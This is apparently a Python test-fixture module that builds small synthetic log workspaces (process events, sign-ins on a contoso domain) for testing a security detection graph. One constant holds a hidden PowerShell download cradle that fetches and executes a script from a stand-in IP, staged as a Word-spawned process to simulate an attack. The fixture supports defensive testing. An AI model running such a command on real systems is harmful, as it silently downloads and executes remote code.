"""Small workspaces of real files for the tests of the graph."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

END = datetime(2026, 3, 4, 12, tzinfo=UTC)
CRADLE = (
    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command "
    "\"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')\""
)


def write(folder: Path, table: str, rows: Iterable[Mapping[str, Any]]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    lines = (json.dumps({**row, "TimeGenerated": row["TimeGenerated"].isoformat()}) for row in rows)
    (folder / f"{table}.jsonl").write_text("\n".join(lines) + "\n")


def process(minutes_ago: float, host: str, command: str, account: str = "jdoe", **more: Any) -> dict[str, Any]:
    name = command.split()[0].strip('"').rsplit("\\", 1)[-1]
    return {
        "TimeGenerated": END - timedelta(minutes=minutes_ago),
        "DeviceName": f"{host}.contoso.com",
        "ActionType": "ProcessCreated",
        "FileName": name,
        "FolderPath": f"C:\\Windows\\System32\\{name}",
        "ProcessCommandLine": command,
        "AccountName": account,
        "AccountDomain": "contoso",
        "InitiatingProcessFileName": "explorer.exe",
        "InitiatingProcessFolderPath": "C:\\Windows\\explorer.exe",
        "InitiatingProcessCommandLine": "explorer.exe",
        "ReportId": round(minutes_ago * 1000),
        **more,
    }


def small(folder: Path) -> Path:
    """An attack on ws-1, ordinary work on ws-2, and a few sign-ins."""
    word = {
        "InitiatingProcessFileName": "winword.exe",
        "InitiatingProcessFolderPath": "C:\\Program Files\\Office\\WINWORD.EXE",
    }
    ordinary = [process(60 + n * 5, "ws-2", "notepad.exe report.txt", "bob") for n in range(40)]
    write(
        folder,
        "DeviceProcessEvents",
        [*ordinary, process(30, "ws-1", CRADLE, **word), process(0, "ws-2", "calc.exe", "bob")],
    )
    write(
        folder,
        "SigninLogs",
        [
            {
                "TimeGenerated": END - timedelta(hours=n),
                "UserPrincipalName": "bob@contoso.com",
                "ResultType": "0",
                "IPAddress": "192.0.2.10",
                "AppDisplayName": "Office 365",
                "Location": "DE",
            }
            for n in range(1, 9)
        ],
    )
    return folder
